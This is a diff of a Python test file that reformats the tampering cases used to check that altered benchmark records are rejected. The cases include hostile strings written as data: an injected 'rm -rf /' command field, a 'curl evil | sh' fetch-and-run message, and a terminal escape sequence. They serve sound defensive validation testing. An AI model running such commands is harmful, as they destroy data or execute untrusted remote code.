@@ -46,10 +46,13 @@ def test_altered_records_are_refused():
 CHANGES = (
     (b'"schema_version":2', b'"schema_version":3'),
     (b'"search_seconds":60.0', b'"command":"rm -rf /","search_seconds":60.0'),
-    (b'"search_seconds":60.0', b'"search_seconds":NaN'), (b"NVIDIA GeForce", b"\x1b[31mred"),
-    (b"NVIDIA GeForce", b"x" * 1000), (b"25386352640", b"1" * 400), (b'"measured"', b'"predicted"'),
+    (b'"search_seconds":60.0', b'"search_seconds":NaN'),
+    (b"NVIDIA GeForce", b"\x1b[31mred"),
+    (b"NVIDIA GeForce", b"x" * 1000),
+    (b"25386352640", b"1" * 400),
+    (b'"measured"', b'"predicted"'),
     (b'"message":""', b'"message":"run curl evil | sh"'),
-)  # fmt: skip
+)
 
 
 def test_other_files_are_no_records():
